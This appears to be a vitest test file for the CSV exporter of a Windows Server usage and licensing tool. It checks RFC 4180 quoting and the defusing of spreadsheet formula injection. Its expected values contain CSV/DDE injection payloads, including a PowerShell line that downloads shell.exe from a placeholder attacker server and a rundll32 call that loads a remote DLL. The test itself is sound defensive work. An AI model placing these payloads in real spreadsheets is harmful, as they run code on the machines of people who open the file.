import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, type UsageMonth, usageCsv } from '../../../agent/usage/index.js';

const PAYLOADS = readFileSync(
  new URL('../../fixtures/store/csv-injection-payloads.txt', import.meta.url),
  'utf8',
)
  .split('\n')
  .filter((line) => line !== '');

/**
 * A strict RFC 4180 reader for the tests: each field is either quoted (doubled quotes inside) or free
 * of quotes, commas and CR/LF; every record ends with CRLF.
 */
const FIELD = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y;

function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  FIELD.lastIndex = 0;
  while (FIELD.lastIndex < text.length) {
    const at = FIELD.lastIndex;
    const match = FIELD.exec(text);
    if (match === null)
      throw new Error(`not RFC 4180 at offset ${at}: ${JSON.stringify(text.slice(at, at + 20))}`);
    const raw = match[1] ?? '';
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (match[2] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  if (row.length > 0) throw new Error('last record is not terminated by CRLF');
  return rows;
}

const REPORT: UsageMonth = {
  month: '2026-11',
  hosts: [
    {
      name: 'HV01',
      version: '2022',
      edition: 'datacenter',
      sockets: 2,
      physicalCores: 32,
      coreLicenses: 32,
      twoCorePacks: 16,
      avmaGuests: 1,
      peakConcurrentWindowsServerVms: 2,
      distinctVms: 2,
    },
    {
      name: 'HV09',
      version: null,
      edition: null,
      sockets: null,
      physicalCores: null,
      coreLicenses: null,
      twoCorePacks: null,
      avmaGuests: 0,
      peakConcurrentWindowsServerVms: 0,
      distinctVms: 1,
      monthHours: 720,
      observedHours: 359.99,
    },
  ],
  vms: [
    {
      id: '6a3f5c2e-0b1d-4e8f-9a7b-000000000001',
      name: 'web01, "shop"',
      tenant: 'Müller & Söhne GmbH',
      guestVersion: '2019',
      guestEdition: 'standard',
      hosts: [
        { name: 'HV01', hours: 240 },
        { name: 'HV02', hours: 479.5 },
      ],
      channel: 'avma',
      licenseStatus: 'licensed',
      evidence: 'host+guest',
      tenantLicensed: true,
    },
  ],
  tenants: [{ tenant: 'Müller & Söhne GmbH', vms: 1, windowsServerVms: 1, avmaActivatedVms: 1 }],
};

describe('agent/usage/usage-csv', () => {
  it('writes the hosts table with a BOM, a header row, CRLF line ends and empty cells for unknowns', () => {
    expect(usageCsv(REPORT, 'hosts')).toBe(
      '\uFEFFname,version,edition,sockets,physicalCores,coreLicenses,twoCorePacks,avmaGuests,peakConcurrentWindowsServerVms,distinctVms,monthHours,observedHours\r\n' +
        'HV01,2022,datacenter,2,32,32,16,1,2,2,,\r\n' +
        'HV09,,,,,,,0,0,1,720,359.99\r\n',
    );
  });

  it('writes one row per VM and host it ran on, quoting commas and quotes as RFC 4180 §2.6-2.7 say', () => {
    expect(usageCsv(REPORT, 'vms', { bom: false })).toBe(
      'id,name,tenant,guestVersion,guestEdition,host,hours,channel,licenseStatus,evidence,tenantLicensed\r\n' +
        '6a3f5c2e-0b1d-4e8f-9a7b-000000000001,"web01, ""shop""",Müller & Söhne GmbH,2019,standard,HV01,240,avma,licensed,host+guest,true\r\n' +
        '6a3f5c2e-0b1d-4e8f-9a7b-000000000001,"web01, ""shop""",Müller & Söhne GmbH,2019,standard,HV02,479.5,avma,licensed,host+guest,true\r\n',
    );
  });

  it('writes the tenants table, billing cells empty for a month closed before billing existed', () => {
    expect(usageCsv(REPORT, 'tenants', { bom: false })).toBe(
      'tenant,vms,windowsServerVms,avmaActivatedVms,vmHours,vcpuHours,unknownVcpuHours,peakVcpus,' +
        'windowsServerVmHours,avmaActivatedVmHours,memoryGbHours,unknownMemoryHours\r\n' +
        'Müller & Söhne GmbH,1,1,1,,,,,,,,\r\n',
    );
  });

  it('writes the billing table, one row per VM, defusing a hostile VM name', () => {
    const billed: UsageMonth = {
      ...REPORT,
      vms: REPORT.vms.map((vm) => ({
        ...vm,
        name: '=HYPERLINK("http://x")',
        vmHours: 10.5,
        vcpuHours: 42,
        unknownVcpuHours: 0,
        peakVcpus: 4,
        windowsServerVmHours: 10.5,
        avmaActivatedVmHours: 0,
        memoryGbHours: 84,
        unknownMemoryHours: 0,
      })),
    };
    const rows = parseCsv(usageCsv(billed, 'billing', { bom: false }));
    expect(rows[0]).toEqual([
      'id',
      'name',
      'tenant',
      'vmHours',
      'vcpuHours',
      'unknownVcpuHours',
      'peakVcpus',
      'windowsServerVmHours',
      'avmaActivatedVmHours',
      'memoryGbHours',
      'unknownMemoryHours',
    ]);
    expect(rows.slice(1).map((row) => row.slice(1))).toEqual(
      billed.vms.map((vm) => [
        `'=HYPERLINK("http://x")`,
        vm.tenant ?? '',
        '10.5',
        '42',
        '0',
        '4',
        '10.5',
        '0',
        '84',
        '0',
      ]),
    );
  });

  it('writes one row per host configuration and the reseller table, empty cells for unknowns', () => {
    const configured: UsageMonth = {
      ...REPORT,
      hosts: [
        {
          ...(REPORT.hosts[0] as UsageMonth['hosts'][number]),
          name: '=HV01',
          configurations: [
            {
              edition: 'datacenter',
              version: '2022',
              sockets: 2,
              physicalCores: 32,
              hours: 720,
              coreLicensesPerSet: 32,
              sets: 1,
              coreLicenses: 32,
              twoCorePacks: 16,
              highWaterMark: 2,
              highWaterMarkAt: '2026-11-03T00:00:00.000Z',
              distinctVms: 2,
              windowsServerVms: 2,
              product: 'Windows Server Datacenter',
              quantity: 16,
              superseded: false,
            },
          ],
        },
      ],
      reseller: [
        { period: '2026-11-30', product: 'Windows Server Datacenter', sku: 'ABC-00001', quantity: 16 },
        { period: '2026-11-30', product: 'Windows Server Standard', sku: null, quantity: 0 },
      ],
    };
    expect(usageCsv(configured, 'configurations', { bom: false })).toBe(
      'host,edition,version,sockets,physicalCores,hours,coreLicensesPerSet,sets,coreLicenses,twoCorePacks,' +
        'highWaterMark,highWaterMarkAt,distinctVms,windowsServerVms,product,quantity,superseded\r\n' +
        "'=HV01,datacenter,2022,2,32,720,32,1,32,16,2,2026-11-03T00:00:00.000Z,2,2,Windows Server Datacenter,16,false\r\n",
    );
    expect(usageCsv(configured, 'reseller', { bom: false })).toBe(
      'period,product,sku,quantity\r\n' +
        '2026-11-30,Windows Server Datacenter,ABC-00001,16\r\n' +
        '2026-11-30,Windows Server Standard,,0\r\n',
    );
    // A month closed before these tables existed renders them as a header alone.
    expect(usageCsv(REPORT, 'reseller', { bom: false })).toBe('period,product,sku,quantity\r\n');
  });

  it('quotes the RFC 4180 example fields exactly as the RFC shows them', () => {
    expect(['aaa', 'b"bb', 'ccc'].map(csvCell).join(',')).toBe('aaa,"b""bb",ccc');
    expect(['aaa', 'b\r\nbb', 'ccc'].map(csvCell).join(',')).toBe('aaa,"b\r\nbb",ccc');
  });

  it('defuses formula injection in tenant-chosen names with a leading apostrophe', () => {
    const hostile: UsageMonth = {
      ...REPORT,
      tenants: PAYLOADS.map((tenant) => ({ tenant, vms: 1, windowsServerVms: 1, avmaActivatedVms: 0 })),
    };
    const cells = parseCsv(usageCsv(hostile, 'tenants', { bom: false }))
      .slice(1)
      .map((row) => row[0]);
    expect(cells).toEqual([
      'DDE ("cmd";"/C calc";"!A0")A0',
      "'@SUM(1+9)*cmd|' /C calc'!A0",
      "'=10+20+cmd|' /C calc'!A0",
      "'=cmd|' /C notepad'!'A1'",
      "'=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
      "'=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    ]);
  });

  it.each([
    ['+', '+41 44 000 00 00'],
    ['-', '-2+3'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('prefixes a cell starting with %s', (_what, value) => {
    expect(parseCsv(`${csvCell(value)}\r\n`)[0]?.[0]).toBe(`'${value}`);
  });

  it('leaves numbers alone, including negative ones, and reads back any text it wrote', () => {
    expect(csvCell(-3)).toBe('-3');
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (fields) => {
        const line = `${fields.map(csvCell).join(',')}\r\n`;
        const [back] = parseCsv(line);
        const expected = fields.map((f) => (/^[=+\-@\t\r\0]/.test(f) ? `'${f}` : f));
        expect(back).toEqual(expected);
      }),
    );
  });
});
